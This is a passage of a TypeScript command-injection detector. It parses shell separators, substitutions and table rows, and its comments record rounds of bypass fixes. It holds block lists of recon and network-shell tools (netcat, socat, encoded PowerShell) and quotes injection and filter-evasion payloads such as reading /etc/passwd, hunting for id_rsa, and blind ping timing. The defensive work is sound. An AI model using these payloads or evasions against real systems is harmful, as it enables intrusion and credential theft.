  if (READERS.has(first)) return READS_SYSTEM.test(line.slice(end)) && bareArguments(first + line.slice(end))
  if (!RECON.has(first)) return false
  if (bareArguments(first + line.slice(end))) return true
  // (sixty-first round, the spent hundred-and-forty-third part's `whoami | grep root`) its output piped to, or its line followed by, other
  // listed programs: the recon program's own arguments judged, then each command after it — a listed program, and one that is an English
  // word given only what a shell reads as arguments (review: a title's or a table row's `whoami | Find me on GitHub`, `tasklist | ps |
  // List running processes` are no command lines)
  const sep = SEPARATOR_IN_LINE.exec(line.slice(end))
  return sep !== null && bareArguments(first + line.slice(end, end + sep.index)) && commandsAfter(line.slice(end + sep.index + sep[0].length))
}
/** Whether each command of a line's rest (parted by `;`, `|`, `||`, `&&`) is a listed program, an English word's with a shell's arguments only. */
function commandsAfter(rest: string): boolean {
  for (const segment of rest.split(SEPARATOR_IN_LINE, 8)) {
    const words = segment.trim().split(/[ \t]+/)
    const program = words[0]!
    if (!COMMANDS.has(program)) return false
    if (ENGLISH.has(program) && !words.slice(1).every((w) => SHELL_TOKEN.test(w) || COMMANDS.has(w))) return false
  }
  return true
}
const FIND_EXEC = /[ \t]-(?:exec|execdir|ok)[ \t]{1,4}([a-z][\w.-]{0,30})/
const CMD_VARIABLE = /^[%!]{1,2}([a-z]{2,12})[%!]{0,2}$/
const TRAILING_COMMENT = /[ \t]{1,4}#[^\n]{0,100}$|[ \t]{0,4}(?:%00|\0)$/
const GLUED_INPUT = /^([a-z]{2,8})<>?(?=\/)/
/** Interpreters, and the options after which the rest of the line is the program they run (with at least one word of it). */
const RUNS_NEXT: Record<string, RegExp> = {
  cmd: /^[ \t]{1,4}\/[ck][ \t]{1,4}\S/,
  powershell: /^(?:[ \t]{1,4}-(?:nop|noprofile|noni|noninteractive|w|windowstyle[ \t]{1,4}\w{1,12}|ep[ \t]{1,4}\w{1,12}|executionpolicy[ \t]{1,4}\w{1,12}|sta)){0,4}[ \t]{1,4}-(?:c|command|e|enc|encodedcommand)[ \t]{1,4}\S/,
  node: /^[ \t]{1,4}-(?:e|p|-eval|-print)[ \t]{1,4}['"]/,
  lua: /^[ \t]{1,4}-e[ \t]{1,4}['"]/,
}
RUNS_NEXT.pwsh = RUNS_NEXT.powershell!
const INTERPRETERS = new Set(Object.keys(RUNS_NEXT))
/** A separator closing a command line given alone (`/usr/bin/id;`, `/bin/ls -al |`). */
const TRAILING_SEPARATOR = /[ \t]{0,4}(?:;|\|{1,2}|&{1,2})$/
const ONLY_OPTIONS = /^(?:[ \t]{1,4}-{1,2}[a-z]{1,20}){0,6}[ \t]{0,4}$/
/** a program's name as a command line's word starts (what `pathCommand` looks for after a separator) */
const PROGRAM_WORD = /^[a-z][\w.-]{0,30}/
/** the first `;`, `|`, `||` or `&&` of a command line, with the blanks around it */
const SEPARATOR_IN_LINE = /[ \t]{0,4}(?:;|\|{1,2}|&&)[ \t]{0,4}/
/** Programs that tell about the host with no argument, by path alone: `/usr/bin/id`. */
const PATH_ALONE = new Set(['id', 'whoami', 'uname', 'hostname', 'pwd', 'ps', 'ls', 'dir', 'ifconfig', 'netstat', 'uptime', 'printenv', 'w', 'who', 'env', 'ipconfig', 'ss', 'arp'])
function pathCommand(program: string, rest: string): boolean {
  const args = rest.trim()
  if (args.length === 0) return PATH_ALONE.has(program)
  let tokens = true
  for (const w of args.split(/[ \t]+/)) if (!SHELL_TOKEN.test(w) && !COMMANDS.has(w)) tokens = false
  if (tokens) return true
  // (forty-eighth round) a separator after its arguments, then a listed program (`/usr/bin/id | ps aux`, `/bin/ls -al; whoami`): the
  // program's own arguments are judged, and the next command is one
  const sep = SEPARATOR_IN_LINE.exec(rest)
  if (sep === null) return false
  const next = PROGRAM_WORD.exec(rest.slice(sep.index + sep[0].length))
  return next !== null && COMMANDS.has(next[0]) && pathCommand(program, rest.slice(0, sep.index))
}
const PROGRAM_PATH = /^\/(?:usr\/(?:local\/)?)?s?bin\/[a-z][\w.-]{0,30}$/

/** Listing and reading programs: a command line on their own only when aimed at the system's files. */
const READERS = new Set(['ls', 'dir', 'cat', 'type', 'more', 'head', 'tail', 'tac', 'nl', 'find', 'stat', 'dd'])
// (twenty-fifth round: dd's input file, `dd if=/etc/passwd of=/tmp/x`)
// (review: not a device, `dd if=/dev/zero of=/swapfile`, a swap file's recipe)
const READS_SYSTEM = /^(?:\s+-{1,2}[\w-]+)*\s+(?:if=(?!\/dev\/))?(?:\/(?:(?:etc|proc|tmp|var|home|root|usr|bin|opt|dev|sys|boot)\b|\s|$)|[a-z]:[\\/]|%\w+%)/

function bareArguments(line: string): boolean {
  const words = line.split(/[ \t]+/)
  const first = words[0]!
  if (words.length === 1) return ALONE.has(first)
  const sub = SUBCOMMANDS[first]
  const option = NEEDS_OPTION[first]
  if (option !== undefined && !words.some((w, i) => i > 0 && option.test(w))) return false
  // after a sub-command (`net localgroup`, `reg add`) its own words follow: names, keys, values
  const free = FREE_WORDS.has(first) || (sub !== undefined && words.length > 1 && sub.includes(words[1]!))
  for (let i = 1; i < words.length; i++) {
    const w = words[i]!
    // a reader's Windows path runs to the end of the line, blanks and all: dir C:\Documents and Settings\*
    if (READERS.has(first) && /^[a-z]:[\\/]/.test(w)) return true
    if (SHELL_TOKEN.test(w) || COMMANDS.has(w) || (i === 1 && sub !== undefined && sub.includes(w)) || (free && /^[\w.:@$"'\\-]{1,60}$/.test(w))) continue
    return false
  }
  return true
}

/**
 * Programs an injection runs on their own to learn about a host, which no one types into a form
 * (`cat food`, `curl hair`, `ls -la` in a search box stay searches): only these make a command line
 * on its own; `ALONE` even without arguments, `FREE_WORDS` with any words after them.
 */
const RECON = new Set(['which', 'ipconfig', 'ifconfig', 'whoami', 'netstat', 'netsh', 'systeminfo', 'sysinfo', 'tasklist', 'uname', 'wmic', 'certutil', 'bitsadmin', 'net', 'reg', 'sc', 'nc', 'ncat', 'netcat', 'powershell', 'pwsh', 'cmd', 'cmd.exe', 'bash', 'sh', 'perl', 'python', 'python3', 'ruby', 'php', 'nslookup', 'printenv', 'nohup', 'mkfifo', 'socat', 'ping', 'ping.exe', 'ping6', 'zsh', 'ksh', 'dash', 'csh', 'tcsh'])
/** Interpreters and tools that run what they are given only with one of these options. */
const NEEDS_OPTION: Record<string, RegExp> = {
  bash: /^-(?:c|i)$/, sh: /^-(?:c|i)$/, zsh: /^-(?:c|i)$/, ksh: /^-(?:c|i)$/, dash: /^-(?:c|i)$/, csh: /^-(?:c|i)$/, tcsh: /^-(?:c|i)$/, perl: /^-e$/, python: /^-c$/, python3: /^-c$/, ruby: /^-e$/, php: /^-r$/,
  nc: /^-(?:\w*e|c)$/, ncat: /^-(?:\w*e|c)$/, netcat: /^-(?:\w*e|c)$/, socat: /^(?:exec|system|tcp)/, cmd: /^\/[ck]$/, 'cmd.exe': /^\/[ck]$/,
  powershell: /^-(?:e|enc|encodedcommand|c|command|nop|w|windowstyle)$/, pwsh: /^-(?:e|enc|encodedcommand|c|command|nop)$/, uname: /^-\w+$/, nslookup: /./,
  // a ping given a count, an interval or a deadline: the timing probe of blind injection (`ping -n 31 127.0.0.1`)
  ping: /^-[ncitw]$/, 'ping.exe': /^-[ncitw]$/, ping6: /^-[ncitw]$/,
}
/** (thirty-fourth round) Programs that read their standard input when given no file: alone they read nothing of the host. */
const STDIN_READERS = new Set(['cat', 'tac', 'nl', 'xxd', 'od', 'strings'])
const REDIRECTED = /^[<>]/
const ALONE = new Set(['ipconfig', 'ifconfig', 'whoami', 'netstat', 'systeminfo', 'sysinfo', 'tasklist', 'printenv'])
const FREE_WORDS = new Set(['netsh', 'wmic'])

/**
 * What may stand before a line break that separates a command: one short token (twentieth round: a fuzzer's `*`, `(`, `,`, a
 * backtick or a backslash too, `*⏎whoami⏎`; twenty-seventh round: a parameter and its value, `param=value⏎whoami`)
 */
/**
 * (forty-seventh round) How long the one token before a line break may be for the break to part two commands (`abc%0aid`): 64 until the
 * round, and a token padded past it (`b`×100 then `⏎id`) hid the command; no part's benign values, nor node_modules' pieces, changed.
 */
const TOKEN_MAX = 2048
const SHORT_TOKEN = new RegExp(String.raw`^['"]?[\w.;|&@/*(),^<>\x60\\=-]{0,${TOKEN_MAX}}['"]?$`)
const LEADING_BREAK = /^(?:\\n|[\r\n])/
const LINE_BREAKS = /\\n|[\r\n]/
/** Lines that each start with a listed program, none longer than a command line typed by hand. */
function commandLines(text: string): boolean {
  if (text.length > 256) return false
  for (const line of text.split(LINE_BREAKS)) {
    const l = line.trim()
    if (l === '') continue
    let j = 0
    while (j < l.length && isWordChar(l.charCodeAt(j))) j++
    if (l.length > 64 || j === 0 || !COMMANDS.has(l.slice(0, j))) return false
  }
  return true
}
/**
 * blanks, then a redirection of output or a pipe, then a file or a program (review: not a number, `` `id` > 0 `` compares)
 * (thirty-ninth round: or a comment glued to it that ends the value, `` `ls`# ``: review — not `#` or `&&` before more words, which a
 * chat's or an answer's code span opens, `` `ls -la` # shows hidden files ``, `` `mkdir build` && cd build ``)
 */
const OUTPUT_REDIRECTED = /^[ \t]{1,4}(?:>{1,2}[ \t]{0,4}[a-zA-Z_/.~$]|\|[ \t]{0,4}[\w/.~$])|^#[ \t]{0,4}$/
const SUBSTITUTION_NEIGHBOUR = new Set([...'abcdefghijklmnopqrstuvwxyz0123456789_=;|&$\'"'].map((c) => c.charCodeAt(0)))

/** Where the separator of an injected command is, or -1. */
/** `fenced`: the value holds a Markdown fence; `nested`: judging a subshell's own line (no subshell after a quote looked for again). */
function injectionAt(v: string, fenced: boolean, nested = false): number {
  let seen = 0
  // the line a pipe was last looked at on, to its end, and whether it is a table's row (`deadRow`); where `alias` or `eval` is (-2: not looked for)
  let rowTo = -1
  let rowDead = false
  let aliasAt = -2
  // whether a `case` closes in the value (-1: not looked for)
  let cased = -1
  // where the text before a break begins and ends once trimmed, its written `\n`s made blanks (-1: none yet), and up to where the reading
  // has looked for it: tracked as the reading goes, so that no break copies the whole text before it
  let inkFrom = -1
  let inkTo = -1
  let inked = 0
  // whether a blank, a break or a written `\n` stands between two of its characters (then it is no one token); the text as last read
  // (`before`, up to `beforeTo`) and whether it is one short token
  let inkGap = false
  let before = ''
  let beforeTo = -2
  let shortToken = false
  // whether the value, trimmed, ends on `)` (-1: not looked at yet; review: trimming it at each `'(` cost the square of its length)
  let closesOnParen = -1
  // how many Kusto stages were looked for on the line read (`rowTo` its end; review: each look reads up to 2,000 characters of it)
  let stageLooks = 0
  const n = v.length
  for (let i = 0; i < n && seen < MAX_SEPARATORS; i++) {
    // (fifty-first round) the request's time budget, read every 256 characters: past it the reading stops, finding nothing (the request
    // is counted as cut, its values judged in part)
    if ((i & 255) === 255 && overdue()) return -1
    const c = v.charCodeAt(i)
    if (c === 39 || c === 34) {
      // an apostrophe inside a word (O'Brien) opens nothing; a quoted span is one argument
      if (i > 0 && v.charCodeAt(i - 1) !== 61 && !isBlank(v.charCodeAt(i - 1))) continue
      const close = v.indexOf(String.fromCharCode(c), i + 1)
      if (close !== -1) i = close
      continue
    }
    switch (c) {
      case 59: // ;
        seen++
        // a property's accessors in C#-like code: `{ get; set; }`, `{ get; private set; }`
        if (v.charCodeAt(i - 1) === 116 && v.endsWith('get', i) && !isWordChar(v.charCodeAt(i - 4)) && ACCESSOR.test(v.slice(i + 1, i + 24))) break
        if (commandAt(v, i + 1, false)) return i
        break
      case 124: // | ||
        // (forty-sixth round) a table's row (Markdown's `| ID | Name |` over `|----|----|`, in a notebook, a docstring, a page): no pipe
        if (i >= rowTo) {
          stageLooks = 0
          rowTo = lineEnd(v, i)
          if (aliasAt === -2) aliasAt = v.search(ALIAS_OR_EXPANSION)
          if (cased === -1) cased = CASE_CLOSED.test(v) ? 1 : 0
          rowDead = cased === 0 && (aliasAt === -1 || aliasAt > rowTo) && deadRow(v, v.lastIndexOf('\n', i) + 1, rowTo)
        }
        if (rowDead) break
        // (twenty-seventh round) a usage's choices in brackets (`[collapse|expand|none]`): no pipe
        if (v.charCodeAt(i + 1) !== 124) {
          const end = choicesEnd(v, i)
          if (end !== -1) {
            i = end
            break
          }
        }
        // a block's parameters (Ruby's `do |file|`, `{ |o| … }`): no pipe
        if (v.charCodeAt(i + 1) !== 124 && blockParameters(v, i)) {
          i = BLOCK_PARAMETERS.lastIndex - 1
          break
        }
        // (thirty-ninth round) a variant of an ML-family type, on a line of its own under the type's declaration (OCaml's and F#'s
        // `type encoding =⏎  | Encoding of string⏎  | Gzip`, Haskell's and Elm's `data Shape⏎  = Circle Float⏎  | Rect Float Float`): no pipe
        // (review: the pipe alone; the rest of its line is read as any other)
        if (v.charCodeAt(i + 1) !== 124 && variantLine(v, i)) break
        // (forty-fourth round) a stage of a Kusto query (`⏎| where Node == '{node}'`, `| top 5 by Count desc`): no pipe (the pipe
        // alone, as a variant's; the rest of its line is read as any other)
        // (third review: counted as a separator, so that a line of thousands of stages is read 32 of them at most)
        // (forty-seventh round's review: 64 looks a line at most, so that a line of thousands of stages costs no 2,000 characters each)
        if (v.charCodeAt(i + 1) !== 124 && stageLooks++ < 64 && kustoStage(v, i + 1)) {
          seen++
          break
        }
        // (twenty-fourth round) a closure of no parameters handed to a call, Rust's `.or_else(|| req.uri.host())`: no `||`
        if (v.charCodeAt(i + 1) === 124 && i > 0 && v.charCodeAt(i - 1) === 40) {
          i++
          break
        }
        seen++
        if (v.charCodeAt(i + 1) === 124) {
          i++
          if (commandAt(v, i + 1, false)) return i
        } else if (commandAt(v, i + 1, betweenWords(v, i))) return i
        break
      case 38: // & &&
        if (i > 0 && CODE_BEFORE.has(v.charCodeAt(i - 1)) && v.charCodeAt(i + 1) !== 38) break
        // a reference to a variable in code, after blanks: PHP's `f($a, &$b)`, `foreach ($x as $k => &$v)`
        if (v.charCodeAt(i + 1) === 36 && i > 1 && isBlank(v.charCodeAt(i - 1))) {
          let b = i - 1
          while (b > 0 && isBlank(v.charCodeAt(b))) b--
          const p = v.charCodeAt(b)
          // (sixtieth round, the spent hundred-and-forty-second part's: and PHP's `foreach ($services as &$service)`; review: only where the
          // name closes the parenthesis, `c=id;echo as &$c` ran `id`; second review: a foreach's own, opening that line)
          if (p === 40 || p === 44 || p === 61 || (p === 62 && v.charCodeAt(b - 1) === 61) || (p === 115 && v.charCodeAt(b - 1) === 97 && isBlank(v.charCodeAt(b - 2)) && FOREACH_REFERENCE.test(v.slice(i + 1, i + 80)) && foreachOpens(v, i))) break
        }
        // an HTML character reference in text (`o&rsquo;ruby`, `M&amp;P`, `&#39;`), its `;` included, unless
        // it names a program (`&id;`)
        if (characterReference(v, i)) {
          i = REFERENCE.lastIndex - 1
          break
        }
        // (twenty-ninth round) a bitwise and of two operands in parentheses (`(char_table[c] & type)`, `(flags & file)`): an
        // expression's, no background job (a listed program's name after it is still judged, `(sleep 5 & id)`)
        if (v.charCodeAt(i + 1) !== 38 && andOperand(v, i)) break
        // (thirty-eighth round) an abbreviation of two letters glued by `&` before plain text (`b&w`, a photograph's or a film's black
        // and white, `B&W` the maker): `w` is the one program a letter names, and it is judged where it is given anything (`b&w -h`, `b&w>f`)
        if (letterAbbreviation(v, i)) break
        // (forty-fifth round) a reference among a call's arguments (Rust's `impl Fn(&mut W, &T, &Env)`, C++'s `eval_example(const
        // help_text& ht, const help_example& ex)`): a line the shells refuse, which runs nothing (`insideCall`)
        // (counted as a separator, as a Kusto stage is: a value of thousands of them is read 32 at most; third review: looked for after
        // the character references and the other exemptions, which count none, so that each look is one of the 32)
        if (insideCall(v, i)) {
          seen++
          if (v.charCodeAt(i + 1) === 38) i++
          break
        }
        seen++
        if (v.charCodeAt(i + 1) === 38) {
          i++
          if (commandAt(v, i + 1, false)) return i
        } else if (commandAt(v, i + 1, betweenWords(v, i))) return i
        break
      case 92: // a literal \n (payloads written for a string context), else a line break
      case 10:
      case 13: {
        if (c === 92 && v.charCodeAt(i + 1) !== 110) break
        // (forty-sixth round) the text before it copied only where it may be one short token or the value opens on a break (forty-seventh
        // round: judged from where its trimmed text begins and ends, tracked as the reading goes, whatever the value opens on: the value's
        // lines are read to its end, and a copy at each break would cost the square of its length)
        for (; inked < i; inked++) {
          const d = v.charCodeAt(inked)
          if (d === 92 && v.charCodeAt(inked + 1) === 110) inked++
          else if (!isTrimmed(d)) {
            if (inkFrom === -1) inkFrom = inked
            else if (inkTo < inked - 1) inkGap = true
            inkTo = inked
          }
        }
        const lead = LEADING_BREAK.test(v)
        // its written `\n`s made blanks, the text is at least half as long as from its first to its last character: past twice TOKEN_MAX
        // (one short token) or twice 256 (commandLines' lines) it is neither
        if (lead ? inkTo - inkFrom >= 512 : inkGap || inkTo - inkFrom >= 2 * TOKEN_MAX) {
          if (c === 92) i++
          seen++
          break
        }
        // (the text and whether it is one short token read again only when it has grown: thousands of breaks after one long token would copy
        // it at each)
        if (inkTo !== beforeTo) {
          beforeTo = inkTo
          before = inkFrom === -1 ? '' : v.slice(inkFrom, inkTo + 1).replace(/\\n/g, ' ')
          shortToken = !inkGap && before.length <= TOKEN_MAX + 2 && SHORT_TOKEN.test(before)
        }
        if (c === 92) i++
        seen++
        // a separator when what comes before it is one short token (abc%0aid, ;%0aid, '\nid), or when
        // the value starts with a line break and every line so far was a command (\necho x\nexit\nsleep 5)
        if (((shortToken && !scriptLineAfter(v, i + 1, before)) || (lead && commandLines(before))) && commandAt(v, i + 1, false, true)) return i
        break
      }
      case 96: {
        // (twenty-seventh round) an empty pair, reStructuredText's literal (``` ``find`` ```): no substitution opens
        // (review: inside text; opening the value it expands to nothing before a command, ``` ``sleep 5`` ```, judged as before)
        if (i > 0 && v.charCodeAt(i + 1) === 96) {
          i++
          break
        }
        // (twenty-seventh round) a quotation GNU's way, `` `perl' ``: no substitution
        const quoted = gnuQuoteEnd(v, i)
        if (quoted !== -1) {
          i = quoted
          break
        }
        // `command`: substitution, glued to a word, an assignment or a separator (x`id` =`id` ;`id`),
        // or the whole value; not an inline code span inside prose
        seen++
        const close = v.indexOf('`', i + 1)
        // (thirty-first round) one expansion alone between backticks is a template literal's (TypeScript's `` type Kind = `${Sex}` ``), and to a
        // shell a program named by a variable the client does not set: no command (forty-seventh round: or in parentheses, typescript-eslint's
        // `(${text})`, a subshell running it; its second review: only where the value sets no such variable, by `=`, a loop or `read` —
        // `for x in sh; do \`(${x})\`; done` deleted a directory in every shell, and `` `${x}` `` there ran `id` since the thirty-first round)
        if (close !== -1 && loneExpansion(v, i, close)) {
          i = close
          break
        }
        // (twenty-third round: or joined to another by `.`, PHP's and Perl's concatenation of two commands' output, `` `echo a`.`echo $((1+2))` ``)
        // (a command line with its argument, not MySQL's name qualified, `` `users`.`id` ``: `users` and `id` are programs too)
        const blank = close !== -1 && spanHasBlank(v, i, close)
        const before = i > 0 && (SUBSTITUTION_NEIGHBOUR.has(v.charCodeAt(i - 1)) || (v.charCodeAt(i - 1) === 46 && v.charCodeAt(i - 2) === 96 && (blank || spanHasBlank(v, v.lastIndexOf('`', i - 3), i - 2))))
        const after = close !== -1 && close < n - 1 && (SUBSTITUTION_NEIGHBOUR.has(v.charCodeAt(close + 1)) || (v.charCodeAt(close + 1) === 46 && v.charCodeAt(close + 2) === 96 && (blank || spanHasBlank(v, close + 2, v.indexOf('`', close + 3)))))
        // (twenty-fifth round: or opening the value, its output redirected or piped, `` `id` > /tmp/out.txt ``)
        if ((before || after || (i === 0 && (close === -1 || close === n - 1 || OUTPUT_REDIRECTED.test(v.slice(close + 1, close + 8))))) && commandAt(v, i + 1, false)) return i
        // (twenty-seventh round) the whole value one substitution: its own command line is judged as a value, pipes and all
        // (`` `echo bHMgLWxh | base64 -d` ``; not a Markdown fence, which fold() leaves a backtick at each end)
        // (forty-eighth round: or right after `;`, `&&` or `||`, `;\`echo aWQ= | base64 -d\``, where its output is the command run — not after a line
        // break, where a Markdown page's command stands alone in its code span, tldr's `` `tar xf {{path/to/file}}` ``)
        if ((i === 0 ? close === n - 1 : strongBefore(v, i) && v.charCodeAt(i - 1) !== 10 && v.charCodeAt(i - 1) !== 13) && close !== -1 && !nested && !fenced && close > i + 2 && injectionAt(v.slice(i + 1, close), fenced, true) !== -1) return i
        // (twenty-third round) commands on lines of their own inside the backticks (`` print(`echo a\necho $((1+2))`) ``): no code span of
        // prose breaks its line there; each line after a break is a command
        // (not a Markdown fence's, ```` ``` ````, whose lines are a listing; nor a template literal assigned in code, `const help = \`Usage:…`)
        if (close !== -1 && close - i < 400 && v.charCodeAt(i - 1) !== 96 && v.charCodeAt(close + 1) !== 96 && !fenced && !assignedLiteral(v, i) && commandAfterBreak(v, i + 1, close)) return i
        if (close !== -1) i = close
        break
      }
      case 40: // (
        // (twenty-third round) a subshell right after a quote, closing the value (`';"…('(sh -i -c "id")`, a fuzzer's polyglot): the quote ends
        // the literal the value is spliced into, the parenthesis runs a command line
        // (not inside such a subshell's own line: every `'(` there would judge the rest again, each of those its rest — exponential)
        if (!nested && i > 0 && (v.charCodeAt(i - 1) === 39 || v.charCodeAt(i - 1) === 34) && (closesOnParen === -1 ? (closesOnParen = v.trimEnd().endsWith(')') ? 1 : 0) : closesOnParen) === 1 && subshellCommand(v, i + 1, fenced)) return i
        break
      case 60: // <( command ) and >( command ): bash's and zsh's process substitution; =( command ): zsh's
      case 62:
      case 61:
        // (forty-sixth round's review) a word's own character before it is a comparison or an array's assignment (`x<(y)`, `a>(b)`,
        // `arr=(id)`): read only at the value's start, after a blank or after a separator
        // (second review: `<(` and `>(` after `=`, `:`, `,` or `{` too, an option's value or a brace's word, `--in=<(id)`, `x:<(id)`)
        if (v.charCodeAt(i + 1) !== 40 || (i > 0 && !afterSeparator(v, i) && !isSpaceOrTab(v.charCodeAt(i - 1)) && !(c !== 61 && WORD_JOINS.has(v.charCodeAt(i - 1))))) break
        seen++
        if (commandAt(v, i + 2, false)) return i
        break
      case 36: // $( command )
        // (thirtieth round) a date stamped into a name, `backup-$(date +%Y-%m-%d).tar.gz`, `$AWS_REGION-$(date +%F)`: a build's or a backup's
        // naming, no probe (the program prints the date in the format given, nothing else)
        if (v.charCodeAt(i + 1) === 40 && v.startsWith('date', i + 2) && DATE_STAMP.test(v.slice(i, i + 64))) break
        if (v.charCodeAt(i + 1) === 40 && v.charCodeAt(i + 2) !== 40) {
          seen++
          if (commandAt(v, i + 2, false)) return i
          // glued inside a word (who$(echo am)i): a substitution whatever the program
          if (i > 0 && isWordChar(v.charCodeAt(i - 1)) && substitutedProgram(v, i + 2)) return i
          // (twenty-first round) and as a command of its own, after a separator or at the start (`; $(which id)`, `; $(printf id)`):
          // a listed program there, English word or not, is run (prose writes no `$(`)
          if (afterSeparator(v, i) && substitutedProgram(v, i + 2)) return i
          // (forty-ninth round) an empty substitution glued before a program where a command starts (`$()id`, `;$()id`): it expands to
          // nothing, as `` ``id `` does, and hides the program's name from a filter (not inside a word, `a$()id` runs `aid`)
          if (v.charCodeAt(i + 2) === 41 && (i === 0 || afterSeparator(v, i)) && commandAt(v, i + 3, false)) return i
        }
        break
    }
  }
  return -1
}

/** JavaScript's white space and line terminators, which `trim()` removes */
const isTrimmed = (c: number) => c === 32 || (c >= 9 && c <= 13) || c === 0xa0 || c === 0x1680 || (c >= 0x2000 && c <= 0x200a) || c === 0x2028 || c === 0x2029 || c === 0x202f || c === 0x205f || c === 0x3000 || c === 0xfeff

/** what may stand right before a process substitution inside a word: `=`, `:`, `,`, `{` (`--in=<(id)`, `{a,<(id)}`) */
const WORD_JOINS = new Set([61, 58, 44, 123])

/**
 * A `case` closed in the value: dash and zsh continue a pattern list broken after `|` onto a line opening on `|` (forty-sixth round's
 * third review: `case x in⏎(a|⏎|x) 127.0.0.1 | id⏎esac` ran `id`), and zsh takes a row's leading `|` before a pattern (`| a) curl … | sh
 * |\r⏎esac`, attacks.ts's Markdown rows): no line is a table's row there
 */
export const CASE_CLOSED = /\besac\b/

/** Where the line of `i` ends: its line feed, or the value's end. */
function lineEnd(v: string, i: number): number {
  const e = v.indexOf('\n', i)
  return e === -1 ? v.length : e
}
/** a space or a tab: what the shells split words on (a vertical tab or a form feed is a word's character to them) */
const isSpaceOrTab = (c: number) => c === 32 || c === 9
/**
 * what keeps a line ending on `|` from being a table's row to `deadRow`: a quote, a backtick, a backslash, `$`, `#`, a brace, `<`,
 * `&`, a parenthesis or `^` — a literal, an expansion, a comment, a here-document, a group or cmd.exe's escape, that may end the
 * line's pipeline or hide its last `|` (`| id | a #|`, cmd.exe's `| whoami ^|`, `| whoami & rem |`)
 */
const ROW_STOPS = new Set([...'\'"`\\$#{}<&()^'].map((ch) => ch.charCodeAt(0)))
/**
 * what keeps a line opening on `|` from being a table's row, or the line before it from ending on a pipe: a quote, a backtick, a
 * backslash, `#`, a brace or `$` — a literal the line may close (`| x" ; id`), one that hides the `|` before it from PowerShell, or a
 * substitution that runs inside the double quotes a value may be spliced into (review: `grep "a |⏎| $(x | id) |" f`)
 */
const OPEN_ROW_STOPS = new Set([...'\'"`\\#{}$'].map((ch) => ch.charCodeAt(0)))

/**
 * (forty-sixth round) Whether the line from `start` to `end` is a table's row the shells refuse (Markdown's `| ID | Name | Website |`
 * over `|----|----|----|`, EASTL's `| set | T | 24 |`): its pipes run nothing. A line that
 * - ends on a `|` when the next line with text opens on one, with none of `ROW_STOPS`: bash, dash and zsh refuse the empty command
 *   between the two, and so the whole command line the row ends (`echo A; x | id |⏎|--|` prints nothing); cmd.exe refuses a line
 *   that ends on a pipe, and PowerShell the empty element of its pipeline, before it runs any of the script;
 * - or opens on a `|` after the value's first line when the line with text before it ends on one, neither with any of
 *   `OPEN_ROW_STOPS`: the shells and cmd.exe refuse a line that opens on a pipe, and PowerShell 7, which continues the line before's
 *   pipeline with it, the empty element between the two (a table's later rows, `| string (all types) | T |`). After any other line,
 *   PowerShell 7 runs it as that line's pipeline's rest (`x⏎| whoami`), so it is read.
 * Not the value's last line ending on a `|`: an application may splice more after the value (`convert x | id | out.png`). Not, the
 * caller's part, after `ALIAS_OR_EXPANSION` (dash and `bash --posix` read a word through an alias an earlier line defined, `alias
 * a='true #'` making `x | id | a |` a complete line), nor in a value where a `case` closes (`CASE_CLOSED`).
 */
function deadRow(v: string, start: number, end: number): boolean {
  let a = start
  while (a < end && isSpaceOrTab(v.charCodeAt(a))) a++
  let b = end
  while (b > a && isSpaceOrTab(v.charCodeAt(b - 1))) b--
  // (review) not a line a backslash joins to the one before, which may open a here-document whose body then takes the next row
  // (`a.png <<E \⏎127.0.0.1 | id |⏎|--|⏎E`)
  if (b === a || (start > 1 && v.charCodeAt(start - 2) === 92)) return false
  if (v.charCodeAt(b - 1) === 124 && end < v.length && noneOf(ROW_STOPS, v, a, b)) {
    let k = end + 1
    while (k < v.length && (isSpaceOrTab(v.charCodeAt(k)) || v.charCodeAt(k) === 10)) k++
    if (v.charCodeAt(k) === 124) return true
  }
  if (start === 0 || v.charCodeAt(a) !== 124 || !noneOf(OPEN_ROW_STOPS, v, a, b)) return false
  let k = start - 1
  while (k > 0 && (isSpaceOrTab(v.charCodeAt(k - 1)) || v.charCodeAt(k - 1) === 10)) k--
  return k > 0 && v.charCodeAt(k - 1) === 124 && noneOf(OPEN_ROW_STOPS, v, v.lastIndexOf('\n', k - 1) + 1, k)
}
/** Whether the text from `a` to `b` holds none of `stops`. */
function noneOf(stops: ReadonlySet<number>, v: string, a: number, b: number): boolean {
  for (let k = a; k < b; k++) if (stops.has(v.charCodeAt(k))) return false
  return true
}

/**
 * (twenty-seventh round) Where a quotation GNU's way that opens with the backtick at `i` closes, or -1: a backtick, then an
 * apostrophe after a word's last character before any other backtick, quote or line break, within 80 characters (`` `perl' ``,
 * `` `swapon -a' ``, as GNU and Debian documents quote). A substitution closes on a backtick (`` `id` ``, `` '`id`' ``).
 * (review: the first apostrophe decides, and it ends the quoted word, a blank, a line break or the value's end after it, or a
 * punctuation mark then one: one glued to more of a word is the shell's quoting inside a substitution, `` `sleep 1'0'` ``,
 * `` `perl -e'exec qw(id)'` ``, `` `cat /etc'/'passwd` ``)
 */
function gnuQuoteEnd(v: string, i: number): number {
  const end = Math.min(v.length, i + 80)
  for (let j = i + 1; j < end; j++) {
    const c = v.charCodeAt(j)
    if (c === 96 || c === 34 || c === 10 || c === 13) return -1
    if (c !== 39) continue
    // (an apostrophe not after a word's character is a shell's quote, `` `find / -name 'id_rsa'` ``, `` `cat<<<'who'` ``)
    const before = v.charCodeAt(j - 1)
    if (j === i + 1 || !(isWordChar(before) || before === 41)) return -1
    return quoteEnds(v, j + 1) || (CLOSING_MARK.has(v.charCodeAt(j + 1)) && quoteEnds(v, j + 2)) ? j : -1
  }
  return -1
}
/** (review) what may follow a GNU quotation's apostrophe before a blank: `` `perl'). ``, `` `-a'. `` */
const CLOSING_MARK = new Set([46, 44, 59, 58, 33, 63, 41, 93])
/** Whether `j` is the value's end, a blank or a line break. */
const quoteEnds = (v: string, j: number) => j >= v.length || isBlank(v.charCodeAt(j)) || v.charCodeAt(j) === 10 || v.charCodeAt(j) === 13

/**
 * (twenty-seventh round) Whether the line from `from` is a script's own after `before`, an assignment (`name=value`): it opens on
 * an English word (bc's `scale=2⏎print "…"`) or reads the variable set as an argument (`name=photo.jpg⏎echo ${name%.jpg}`),
 * where an injected command runs a program no sentence has (`param=value⏎whoami`) or the variable itself (`a=ls⏎$a`).
 */
function scriptLineAfter(v: string, from: number, before: string): boolean {
  const eq = before.indexOf('=')
  if (eq < 1) return false
  // (and a program's next statement, bc's `scale=2⏎print "…"`: after an assignment, a program no sentence has, not an English word)
  let w = from
  while (w < v.length && isBlank(v.charCodeAt(w))) w++
  let e = w
  while (e < v.length && isWordChar(v.charCodeAt(e))) e++
  if (ENGLISH.has(v.slice(w, e))) return true
  const name = before.slice(before.charCodeAt(0) === 39 || before.charCodeAt(0) === 34 ? 1 : 0, eq)
